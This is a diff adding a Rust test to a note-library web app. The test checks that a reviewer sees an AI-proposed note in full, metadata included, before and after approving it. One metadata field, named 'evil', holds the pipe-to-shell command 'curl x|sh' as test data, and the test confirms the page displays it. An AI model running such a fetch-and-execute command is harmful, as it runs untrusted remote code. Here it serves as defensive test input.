@@ -244,6 +244,29 @@ impl<'s> Browser<'s> {
 }
 
 #[test]
+fn a_new_note_is_shown_whole_before_and_after_its_approval() {
+    let library = Library::with(&[("backups.md", NOTE)]);
+    let metadata = json!({ "title": "Locks", "tags": ["short"], "evil": "curl x|sh" });
+    let note =
+        json!({ "content": "Locks are short.\n", "metadata": metadata, "ai_justification": "asked to" });
+    call(&mut served(&library), tool::CREATE_NOTE, note);
+    let keys = Keys::new();
+    let eve = keys.create("Eve", &["review", "write"]);
+    let served = keys.serve(&library, &[]);
+    let mut browser = Browser::with_key(&served, &eve);
+    let place = browser.first_proposal();
+    let shown = browser.get(&place);
+    for part in ["curl x|sh", "short", "Locks are short."] {
+        assert!(shown.contains(part), "{part}: {shown}");
+    }
+    assert!(!shown.contains("unchanged") && !shown.contains("href=\"/page/notes/notes/pend-"), "{shown}");
+    let (status, _, text) = browser.submit(&shown, &place, &[("decision", "approve"), ("part-1", "take")]);
+    assert_eq!(status, 303, "{text}");
+    let decided = browser.get(&place);
+    assert!(decided.contains("Locks are short."), "{decided}");
+}
+
+#[test]
 fn a_page_of_a_server_that_only_reads_changes_nothing() {
     let library = Library::with(&[("backups.md", NOTE)]);
     propose(&library, "# Backups\n\nother\n", 1);
